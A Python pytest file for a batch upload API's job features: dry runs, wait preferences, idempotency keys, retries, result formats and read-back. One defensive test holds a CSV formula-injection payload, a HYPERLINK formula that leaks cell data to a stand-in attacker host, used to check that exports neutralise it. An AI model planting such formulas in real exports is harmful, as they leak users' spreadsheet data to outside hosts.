"""Issue 7 features in-process: dry run, sync mode window, idempotency, retry of failed
rows, result filters and formats, read back."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import threading
from collections.abc import Callable
from typing import Any

import orjson
from sqlalchemy import create_engine, text

from producer.idempotency import IdempotencyKeys
from producer.reruns import MAX_ATTEMPTS_KEPT
from tests.factories import API_KEY, make_row, make_rows
from tests.unit.producer.conftest import Api
from worker.chunks import give_up_chunk
from worker.context import WorkerContext
from worker.engines import EngineRegistry

Headers = Callable[..., dict[str, str]]
BATCH = "/claim-prompt-pays-batch"


def submit(api: Api, rows: Any, headers: dict[str, str], **params: Any) -> Any:
    return api.client.put(BATCH, content=json.dumps(rows), headers=headers, params=params)


def table_keys(api: Api) -> list[int]:
    engine = create_engine(api.settings.databases["demo"])
    with engine.connect() as conn:
        keys = conn.execute(text("SELECT claim_prompt_pay_key FROM claim_prompt_pay")).scalars()
        found = sorted(keys)
    engine.dispose()
    return found


def results(api: Api, job_id: str, headers: dict[str, str], **params: Any) -> Any:
    return api.client.get(f"/jobs/{job_id}/results", headers=headers, params=params)


def test_dry_run_reports_what_would_happen_and_writes_nothing(
    api: Api, auth_headers: Headers
) -> None:
    submit(api, [make_row(1)], auth_headers())
    api.run_queued()
    rows = [make_row(1), make_row(2), make_row(3, prompt_Pay_Duration_Type="W")]
    job_id = submit(api, rows, auth_headers(), dryRun="true").json()["data"]["jobId"]
    api.run_queued()
    data = results(api, job_id, auth_headers()).json()["data"]
    assert [(item["status"], item["body"]) for item in data[:2]] == [
        (200, "Would update"),
        (201, "Would create"),
    ]
    assert data[2]["status"] == 400
    assert table_keys(api) == [1]
    status = api.client.get(f"/jobs/{job_id}", headers=auth_headers()).json()["data"]
    assert status["dryRun"] is True


def test_prefer_wait_past_its_window_answers_202_with_preference_applied(
    api: Api, auth_headers: Headers
) -> None:
    headers = {**auth_headers(), "Prefer": "wait=1"}
    response = submit(api, make_rows(2), headers)
    assert response.status_code == 202
    assert response.headers["preference-applied"] == "wait=1"
    assert response.json()["data"]["state"] == "queued"


def test_a_status_request_may_wait_for_its_job_to_end(api: Api, auth_headers: Headers) -> None:
    job_id = submit(api, make_rows(2), auth_headers()).json()["data"]["jobId"]
    waiting = {**auth_headers(), "Prefer": "wait=1"}
    unfinished = api.client.get(f"/jobs/{job_id}", headers=waiting)
    assert unfinished.json()["data"]["state"] == "queued"  # nothing ran in its window
    assert unfinished.headers["preference-applied"] == "wait=1"
    runner = threading.Timer(0.2, api.run_queued)
    runner.start()
    try:
        ended = api.client.get(f"/jobs/{job_id}", headers={**waiting, "Prefer": "wait=30"})
    finally:
        runner.join()
    assert ended.json()["data"]["state"] == "completed"  # it waited for the run
    assert ended.headers["preference-applied"] == "wait=30"
    plain = api.client.get(f"/jobs/{job_id}", headers=auth_headers())
    assert "preference-applied" not in plain.headers


def test_prefer_wait_on_an_empty_batch_answers_207_at_once(api: Api, auth_headers: Headers) -> None:
    response = submit(api, [], {**auth_headers(), "Prefer": "respond-async, wait=5"})
    assert response.status_code == 207
    assert response.json()["data"] == []
    assert response.headers["preference-applied"] == "wait=5"


def test_idempotency_key_replays_refuses_another_body_and_a_running_duplicate(
    api: Api, auth_headers: Headers
) -> None:
    headers = {**auth_headers(), "Idempotency-Key": "upload-42"}
    first = submit(api, make_rows(3), headers)
    again = submit(api, make_rows(3), headers)
    assert first.status_code == again.status_code == 202
    assert again.json()["data"]["jobId"] == first.json()["data"]["jobId"]
    assert len(api.enqueuer.queued) == 1
    other = submit(api, make_rows(4), headers)
    assert other.status_code == 422
    assert other.headers["location"] == f"/jobs/{first.json()['data']['jobId']}"
    narrow = {**auth_headers(database="acme"), "Idempotency-Key": "upload-42"}
    assert submit(api, make_rows(4), narrow).status_code == 202  # other database, other key
    # While the first request is still being received, a duplicate is told to wait.
    record = IdempotencyKeys(api.store.redis, api.store.store_keys, 60, 15).key(
        hashlib.sha256(API_KEY.encode()).hexdigest()[:12], "demo", "upload-42"
    )
    api.store.redis.hset(record, "state", "receiving")
    running = submit(api, make_rows(3), headers)
    assert running.status_code == 409
    assert running.json()["error"]["type"].endswith("idempotency-key-in-use")


def test_retry_reruns_only_the_failed_rows_and_keeps_their_history(
    api: Api, auth_headers: Headers
) -> None:
    job_id = submit(api, make_rows(4), auth_headers()).json()["data"]["jobId"]
    context = WorkerContext(api.settings, api.store, EngineRegistry(api.settings.databases))
    for queued_job, chunk_no in api.enqueuer.queued:
        give_up_chunk(context, queued_job, chunk_no, attempts=3)  # the database was down
    api.enqueuer.queued.clear()
    failed = results(api, job_id, auth_headers()).json()["data"]
    assert {item["status"] for item in failed} == {503}
    retried = api.client.post(f"/jobs/{job_id}/retry", headers=auth_headers())
    assert retried.status_code == 202
    assert retried.json()["data"]["retriedRows"] == 4
    api.run_queued()
    data = results(api, job_id, auth_headers()).json()["data"]
    assert [item["status"] for item in data] == [201] * 4
    assert data[0]["attempts"] == [{"status": 503, "body": failed[0]["body"]}]
    status = api.client.get(f"/jobs/{job_id}", headers=auth_headers()).json()["data"]
    assert (status["created"], status["failed"], status["retries"]) == (4, 0, 1)
    assert table_keys(api) == [1, 2, 3, 4]
    nothing = api.client.post(f"/jobs/{job_id}/retry", headers=auth_headers())
    assert nothing.status_code == 200
    context.engines.dispose()


def test_rounds_of_reruns_keep_only_the_latest_attempts(api: Api, auth_headers: Headers) -> None:
    rows = [make_row(1), {**make_row(2), "unknown": 1}]
    job_id = submit(api, rows, auth_headers()).json()["data"]["jobId"]
    api.run_queued()
    for _ in range(MAX_ATTEMPTS_KEPT + 3):
        retried = api.client.post(
            f"/jobs/{job_id}/retry", headers=auth_headers(), params={"statuses": "400"}
        )
        assert retried.json()["data"]["retriedRows"] == 1
        api.run_queued()
    data = results(api, job_id, auth_headers()).json()["data"]
    assert data[1]["status"] == 400
    assert data[1]["attempts"] == [{"status": 400, "body": "unknown: unknown field"}] * (
        MAX_ATTEMPTS_KEPT
    )
    assert "attempts" not in data[0]


def test_results_filter_and_formats(api: Api, auth_headers: Headers) -> None:
    rows = [make_row(1), {"claimPromptPay_Key": "x"}, make_row(2)]
    job_id = submit(api, rows, auth_headers()).json()["data"]["jobId"]
    api.run_queued()
    failed = results(api, job_id, auth_headers(), status="failed")
    assert [item["status"] for item in failed.json()["data"]] == [400]
    as_csv = results(api, job_id, {**auth_headers(), "Accept": "text/csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(as_csv.text)))
    assert table[0] == ["row", "id", "status", "body"]
    assert [row[:3] for row in table[1:]] == [
        ["1", "1", "201"],
        ["2", "", "400"],
        ["3", "2", "201"],
    ]
    ndjson = results(api, job_id, {**auth_headers(), "Accept": "application/x-ndjson"})
    lines = [orjson.loads(line) for line in ndjson.text.splitlines()]
    assert [line["status"] for line in lines] == [201, 400, 201]
    paged = results(api, job_id, auth_headers(), status="2xx", page=2, pageSize=1)
    assert json.loads(paged.headers["x-pagination"])["TotalCount"] == 2
    assert [item["id"][0]["value"] for item in paged.json()["data"]] == [2]
    assert results(api, job_id, auth_headers(), status="teapot").status_code == 400


def test_csv_results_neutralise_cells_that_start_like_formulas(
    api: Api, auth_headers: Headers
) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    rows = [{**make_row(1), formula: 1}, make_row(-5), {**make_row(2), "@SUM(A1)": 1}]
    job_id = submit(api, rows, auth_headers()).json()["data"]["jobId"]
    api.run_queued()
    as_csv = results(api, job_id, {**auth_headers(), "Accept": "text/csv"})
    table = list(csv.reader(io.StringIO(as_csv.text)))
    assert table[0][:4] == ["row", "id", "status", "body"]
    assert table[1][:3] == ["1", "1", "400"]
    assert table[1][3].startswith("'=HYPERLINK(")
    assert table[2][:3] == ["2", "-5", "201"]
    assert table[3][3].startswith("'@SUM(A1)")
    assert not any(cell.startswith(("=", "+", "@")) for row in table for cell in row)


def test_read_back_lists_and_gets_rows_with_seed_names(api: Api, auth_headers: Headers) -> None:
    submit(api, [make_row(5, tax_ID="111"), make_row(3, tax_ID="222")], auth_headers())
    api.run_queued()
    listed = api.client.get(
        "/claim-prompt-pays", headers=auth_headers(), params={"sortBy": "tax_ID:desc"}
    )
    assert listed.status_code == 200
    assert [row["claimPromptPay_Key"] for row in listed.json()["data"]] == [3, 5]
    assert json.loads(listed.headers["x-pagination"])["TotalCount"] == 2
    one = api.client.get("/claim-prompt-pays/5", headers=auth_headers())
    assert one.json()["data"]["tax_ID"] == "111"
    assert api.client.get("/claim-prompt-pays/99", headers=auth_headers()).status_code == 404
    bad_sort = api.client.get(
        "/claim-prompt-pays", headers=auth_headers(), params={"sortBy": "nope"}
    )
    assert bad_sort.status_code == 400
    assert (
        api.client.get("/claim-prompt-pays", headers=auth_headers(database=None)).status_code == 400
    )


def test_empty_query_parameters_mean_not_given(api: Api, auth_headers: Headers) -> None:
    job_id = submit(api, make_rows(2), auth_headers()).json()["data"]["jobId"]
    api.run_queued()
    listed = api.client.get("/jobs?state=&page=&pageSize=", headers=auth_headers())
    assert listed.status_code == 200
    assert job_id in [job["jobId"] for job in listed.json()["data"]]
    whole = api.client.get(f"/jobs/{job_id}/results?page=&pageSize=", headers=auth_headers())
    assert whole.status_code == 207
    assert "x-pagination" not in whole.headers
    assert len(whole.json()["data"]) == 2


def test_refused_bodies_give_their_job_slot_back_at_once(
    make_api: Callable[..., Api], auth_headers: Headers
) -> None:
    api = make_api(max_active_jobs_per_key=2)
    for _ in range(5):
        refused = api.client.put(BATCH, content=b"[{", headers=auth_headers())
        assert refused.status_code == 400
    assert submit(api, make_rows(1), auth_headers()).status_code == 202


def test_a_job_still_being_received_cannot_be_cancelled(api: Api, auth_headers: Headers) -> None:
    job_id = "ab" * 16
    api.store.begin(job_id, entity="claim-prompt-pays", database="demo", user="u", chunk_size=5)
    response = api.client.delete(f"/jobs/{job_id}", headers=auth_headers())
    assert response.status_code == 409
    assert response.json()["error"]["type"].endswith("job-receiving")
